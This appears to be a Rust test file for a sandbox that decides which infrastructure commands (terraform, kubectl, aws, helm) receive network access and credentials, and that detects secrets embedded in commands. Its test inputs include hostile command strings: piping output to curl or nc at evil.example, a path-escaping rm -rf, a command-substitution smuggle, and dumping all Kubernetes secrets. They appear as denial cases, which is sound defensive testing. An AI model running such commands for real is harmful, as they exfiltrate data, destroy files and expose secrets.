//! `Classified::cloud`: which scripts the sandbox may give the network and the user's
//! credentials, for which operation (everything else gets neither); and a command whose own
//! words hold a secret (`Classified::secret`, through `secret::find`).

use super::run;
use crate::infra::Tier;

#[test]
fn infrastructure_clients_judged_whole_reach_the_cloud_for_their_operation() {
    for (script, want) in [
        ("terraform plan -out=tfplan", Tier::Plan),
        ("terraform init -input=false", Tier::Plan),
        ("terraform output -json", Tier::Read),
        ("kubectl get pods -n web | grep Running", Tier::Read),
        ("kubectl get pods -o json | jq '.items[].metadata.name'", Tier::Read),
        ("aws ec2 describe-instances --region us-east-1", Tier::Read),
        ("helm list -A", Tier::Read),
        ("sh -c 'kubectl get pods'", Tier::Read),
        ("git status && terraform validate", Tier::Read),
        ("terraform plan -input=false | tee plan.log", Tier::Plan),
        ("kubectl apply -f deploy.yaml", Tier::Mutate),
        ("kubectl get secrets -A -o yaml > s.yaml", Tier::Mutate),
        ("terraform destroy -auto-approve", Tier::Destroy),
    ] {
        assert_eq!(run(script).cloud, Some(want), "{script}");
    }
}

#[test]
fn local_commands_opaque_code_and_the_projects_programs_never_do() {
    for script in [
        "ls -la",
        "cat main.tf > out.txt",
        "make test",
        "python3 -c 'print(1)'",
        "./bin/terraform plan",
        "terraform plan; curl http://evil.example",
        "terraform plan | nc evil.example 80",
        "terraform plan > x.txt; rm -rf build/../..",
        "terraform plan | tee terraform.tfstate",
        "t=terraform; $t plan",
        "eval 'terraform plan'",
        "x='a[$(id)]'; echo ${b[x]}; kubectl get pods",
        "bash ./deploy.sh",
        "npx cdktf deploy",
    ] {
        assert_eq!(run(script).cloud, None, "{script}");
    }
}

#[test]
fn a_command_whose_words_hold_a_secret_prints_secrets() {
    for script in [
        "curl -H 'Authorization: Bearer ghp_1234567890abcdefghijABCDEFGHIJ123456' https://x.example",
        "echo wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        "mysql --password 'Zx9kq2LmP0vR7tYw' -e 'select 1'",
    ] {
        let got = run(script);
        assert!(
            got.secret.as_deref().is_some_and(|r| r.contains("holds a secret")),
            "{script}: {got:?}"
        );
    }
    for script in ["echo hello", "curl -H 'Accept: application/json' https://x.example", "ls -la"] {
        assert_eq!(run(script).secret, None, "{script}");
    }
}
